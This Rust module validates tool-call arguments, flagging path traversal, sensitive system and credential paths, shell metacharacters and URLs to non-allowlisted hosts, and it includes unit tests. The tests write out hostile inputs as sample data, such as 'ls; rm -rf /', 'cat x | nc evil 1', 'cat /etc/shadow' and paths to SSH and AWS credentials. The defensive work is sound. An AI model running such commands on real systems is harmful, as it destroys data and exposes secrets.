//! Argument checks: every string in a call's arguments (nested objects and arrays
//! included) is checked for path traversal, sensitive paths, shell metacharacters and
//! URLs to hosts outside the allowlist.

use serde_json::Value;

use crate::config::Config;
use crate::glob;
use crate::schema::child_path;

/// Words in a property name that make its value a command, path or file name
/// (`command`, `shell_cmd`, `filePath`, `target_dir`, `argv`, ...).
const COMMAND_WORDS: &[&str] = &[
    "cmd",
    "cmdline",
    "command",
    "commands",
    "shell",
    "script",
    "exec",
    "execute",
    "path",
    "paths",
    "filepath",
    "file",
    "files",
    "filename",
    "filenames",
    "dir",
    "dirs",
    "directory",
    "folder",
    "cwd",
    "program",
    "binary",
    "argv",
    "args",
];

/// Shell metacharacters (command separators, pipes, substitution, redirection).
const SHELL_META: &[(&str, &str)] = &[
    (";", "command separator ;"),
    ("&&", "command chaining &&"),
    ("|", "pipe |"),
    ("`", "backtick substitution"),
    ("$(", "command substitution $("),
    (">", "output redirection >"),
    ("\n", "newline"),
    ("\r", "carriage return"),
];

/// The distinct problems found with one call, in the order found, up to a limit: once
/// it is full, the checks stop (nothing more could be reported, and a call with
/// thousands of offending strings is refused without exhausting the fuel).
pub struct Problems {
    list: Vec<String>,
    limit: usize,
}

impl Problems {
    /// An empty collection keeping at most `limit` problems.
    pub fn new(limit: usize) -> Self {
        Problems {
            list: Vec::new(),
            limit,
        }
    }

    /// Record `problem` unless it is already recorded or the collection is full.
    pub fn push(&mut self, problem: String) {
        if !self.is_full() && !self.list.contains(&problem) {
            self.list.push(problem);
        }
    }

    /// Whether nothing more will be recorded.
    pub fn is_full(&self) -> bool {
        self.list.len() >= self.limit
    }

    /// The problems, in the order found.
    pub fn into_vec(self) -> Vec<String> {
        self.list
    }
}

/// Run the argument checks on one call's arguments (messages name the JSON path only).
pub fn check(arguments: &Value, config: &Config, out: &mut Problems) {
    walk(arguments, "", "$", config, out);
}

fn walk(value: &Value, key: &str, path: &str, config: &Config, out: &mut Problems) {
    if out.is_full() {
        return;
    }
    match value {
        Value::String(s) => check_string(s, key, path, config, out),
        Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                walk(item, key, &format!("{path}[{i}]"), config, out);
            }
        }
        Value::Object(map) => {
            for (k, item) in map {
                walk(item, k, &child_path(path, k), config, out);
            }
        }
        _ => {}
    }
}

fn check_string(s: &str, key: &str, path: &str, config: &Config, out: &mut Problems) {
    let command_like = is_command_key(key);
    if has_traversal(s, command_like) {
        out.push(format!("path traversal in argument {path}"));
    }
    if reaches_sensitive_path(s, command_like, &config.sensitive_paths) {
        out.push(format!("sensitive path in argument {path}"));
    }
    if (command_like || config.strict_shell)
        && let Some(what) = shell_metacharacter(s)
    {
        out.push(format!("shell metacharacter ({what}) in argument {path}"));
    }
    if let Some(allowed) = &config.allowed_hosts
        && urls_hosts(s).any(|host| !allowed.iter().any(|p| glob::matches(p, &host)))
    {
        out.push(format!(
            "URL to a host outside allowed_hosts in argument {path}"
        ));
    }
}

/// Split a property name into lower-case words at `_`, `-`, `.`, spaces and camelCase
/// humps, and look for a command/path word.
pub fn is_command_key(key: &str) -> bool {
    let mut words = Vec::new();
    let mut word = String::new();
    let mut prev_lower = false;
    for c in key.chars() {
        let boundary = !c.is_ascii_alphanumeric() || (c.is_ascii_uppercase() && prev_lower);
        if boundary && !word.is_empty() {
            words.push(std::mem::take(&mut word));
        }
        if c.is_ascii_alphanumeric() {
            word.push(c.to_ascii_lowercase());
        }
        prev_lower = c.is_ascii_lowercase() || c.is_ascii_digit();
    }
    words.push(word);
    words.iter().any(|w| COMMAND_WORDS.contains(&w.as_str()))
}

/// Decode `%XX` escapes (invalid ones are kept as they are).
fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = bytes
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok());
        match (bytes[i], hex.and_then(|h| u8::from_str_radix(h, 16).ok())) {
            (b'%', Some(b)) => {
                out.push(b);
                i += 3;
            }
            (b, _) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The string as given, once and twice percent-decoded (`%2e%2e`, `%252e%252e`).
fn decodings(s: &str) -> Vec<String> {
    let mut all = vec![s.to_string()];
    while all.len() < 3 && all.last().is_some_and(|v| v.contains('%')) {
        let next = percent_decode(all.last().map_or("", String::as_str));
        if all.contains(&next) {
            break;
        }
        all.push(next);
    }
    all
}

/// A `..` path segment next to a separator (`../x`, `a\..\b`, `x/..`, `?f=../x`), in
/// the string or its percent-decodings, or an overlong-UTF-8 dot. In command-like
/// values words are segments too (`cat ../x`); elsewhere prose such as "see ../docs",
/// where `..` is glued to a word, is not traversal. `file..txt` and `...` never are.
pub fn has_traversal(s: &str, command_like: bool) -> bool {
    let lower = s.to_ascii_lowercase();
    if ["%c0%ae", "%c0%af", "%e0%80%ae"]
        .iter()
        .any(|o| lower.contains(o))
    {
        return true;
    }
    let separator = |c: char| "/\\=?&;,".contains(c) || (command_like && c.is_whitespace());
    decodings(s).iter().any(|d| {
        d.trim() == ".." || (d.contains(['/', '\\']) && d.split(separator).any(|seg| seg == ".."))
    })
}

/// Normalize a path for the sensitive-path globs: lower case, `/` separators, no
/// `file://` prefix, `~` and `$HOME` as `/~`, no empty or `.` segments.
fn normalize_path(p: &str) -> String {
    let mut s = p
        .trim()
        .trim_matches(['"', '\''])
        .to_ascii_lowercase()
        .replace('\\', "/");
    if let Some(rest) = s.strip_prefix("file://") {
        s = rest.strip_prefix("localhost").unwrap_or(rest).to_string();
    }
    for home in ["~", "$home", "${home}"] {
        if s == home || s.starts_with(&format!("{home}/")) {
            s = format!("/~{}", &s[home.len()..]);
        }
    }
    let absolute = s.starts_with('/') || s.as_bytes().get(1) == Some(&b':');
    let segments: Vec<&str> = s
        .split('/')
        .filter(|seg| !seg.is_empty() && *seg != ".")
        .collect();
    let joined = segments.join("/");
    if absolute && !joined.contains(':') {
        format!("/{joined}")
    } else {
        joined
    }
}

/// Whether `path` (normalized) matches a sensitive glob; relative paths are also tried
/// with a leading `/` against globs that start with `*` (so `.ssh/id_rsa` is caught but
/// `docs/etc/x` is not taken for `/etc/x`).
fn is_sensitive(path: &str, globs: &[String]) -> bool {
    let rooted = format!("/{path}");
    globs.iter().any(|g| {
        glob::matches(g, path)
            || (g.starts_with('*') && !path.starts_with('/') && glob::matches(g, &rooted))
    })
}

/// The whole value is a sensitive path; for command/path-like properties, also any
/// word of it (`cat /etc/shadow`, `--key=~/.ssh/id_rsa`).
pub fn reaches_sensitive_path(s: &str, command_like: bool, globs: &[String]) -> bool {
    if decodings(s)
        .iter()
        .any(|d| is_sensitive(&normalize_path(d), globs))
    {
        return true;
    }
    command_like
        && s.split(|c: char| c.is_whitespace() || "=;|&<>()\"'`,".contains(c))
            .filter(|w| w.contains('/') || w.contains('\\') || w.starts_with('~'))
            .any(|w| is_sensitive(&normalize_path(w), globs))
}

/// The first shell metacharacter in `s`, described.
pub fn shell_metacharacter(s: &str) -> Option<&'static str> {
    SHELL_META
        .iter()
        .find(|(m, _)| s.contains(m))
        .map(|(_, what)| *what)
}

/// Hosts of the `scheme://` URLs in `s` (lower case, without user info or port);
/// `file://` URLs have no host and are left to the path checks.
pub fn urls_hosts(s: &str) -> impl Iterator<Item = String> + '_ {
    s.match_indices("://").filter_map(move |(at, _)| {
        let before = &s[..at];
        let scheme_len = before
            .bytes()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
            .count();
        let scheme = &before[before.len() - scheme_len..];
        if !scheme
            .bytes()
            .next()
            .is_some_and(|b| b.is_ascii_alphabetic())
            || scheme.eq_ignore_ascii_case("file")
        {
            return None;
        }
        let rest = &s[at + 3..];
        let end = rest
            .find(|c: char| c.is_whitespace() || "/\\?#\"'<>`".contains(c))
            .unwrap_or(rest.len());
        Some(host_of(&rest[..end]))
    })
}

/// The host of a URL authority: after the last `@`, without the port, brackets or a
/// trailing dot.
fn host_of(authority: &str) -> String {
    let host = authority.rsplit('@').next().unwrap_or("");
    let host = match host.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or(""),
        None => host.split(':').next().unwrap_or(""),
    };
    host.trim_end_matches('.').to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn globs() -> Vec<String> {
        Config::default().sensitive_paths
    }

    #[test]
    fn command_keys_by_word() {
        for k in [
            "command",
            "shell_cmd",
            "filePath",
            "target_dir",
            "argv",
            "path",
            "sourceFile",
            "cwd",
        ] {
            assert!(is_command_key(k), "{k}");
        }
        for k in [
            "query",
            "profile",
            "redirect_uri",
            "directions",
            "text",
            "filter",
            "message",
        ] {
            assert!(!is_command_key(k), "{k}");
        }
    }

    #[test]
    fn traversal_variants() {
        for s in [
            "../etc/passwd",
            "a/../../b",
            "..\\..\\windows",
            "x/..",
            "..",
            "%2e%2e%2fsecret",
            "%252e%252e/x",
            "..%2fx",
            "%c0%ae%c0%ae/",
            "https://h/d?f=../c",
        ] {
            assert!(has_traversal(s, false), "{s}");
        }
        for s in [
            "file..txt",
            "...",
            "see ../docs for details",
            "a../b",
            "v1.2..v1.3",
            "wait...",
        ] {
            assert!(!has_traversal(s, false), "{s}");
        }
        assert!(has_traversal("cat ../secret", true));
        assert!(!has_traversal("cat ../secret", false));
    }

    #[test]
    fn sensitive_paths() {
        let g = globs();
        for s in [
            "/etc/passwd",
            "/etc",
            "~/.ssh/id_rsa",
            "$HOME/.aws/credentials",
            "file:///etc/shadow",
            "C:\\Windows\\System32\\config\\SAM",
            "//etc//./hosts",
            ".ssh/authorized_keys",
            "/home/bob/.kube/config",
        ] {
            assert!(reaches_sensitive_path(s, false, &g), "{s}");
        }
        for s in [
            "/home/bob/notes.txt",
            "docs/etc/passwd.md",
            "/tmp/etc",
            "etcetera",
            "my .ssh tips",
        ] {
            assert!(!reaches_sensitive_path(s, false, &g), "{s}");
        }
        assert!(reaches_sensitive_path("cat /etc/shadow", true, &g));
        assert!(reaches_sensitive_path(
            "scp --identity=~/.ssh/id_ed25519 x y",
            true,
            &g
        ));
        assert!(!reaches_sensitive_path("cat /etc/shadow", false, &g));
    }

    #[test]
    fn shell_metacharacters() {
        assert_eq!(
            shell_metacharacter("ls; rm -rf /"),
            Some("command separator ;")
        );
        assert_eq!(
            shell_metacharacter("echo $(id)"),
            Some("command substitution $(")
        );
        assert_eq!(shell_metacharacter("a && b"), Some("command chaining &&"));
        assert_eq!(shell_metacharacter("cat x | nc evil 1"), Some("pipe |"));
        assert_eq!(
            shell_metacharacter("echo hi > /tmp/x"),
            Some("output redirection >")
        );
        assert_eq!(shell_metacharacter("ls -la /tmp"), None);
        assert_eq!(shell_metacharacter("R&D report.pdf"), None);
    }

    #[test]
    fn url_hosts() {
        let hosts: Vec<String> = urls_hosts(
            "see https://API.Example.com:8443/x, http://user:pw@evil.test/ and https://good.com@bad.test/p http://[::1]:80/ ftp://files.example.org. file:///etc/x https://evil.test\\@good.com",
        )
        .collect();
        assert_eq!(
            hosts,
            [
                "api.example.com",
                "evil.test",
                "bad.test",
                "::1",
                "files.example.org",
                "evil.test"
            ]
        );
    }
}
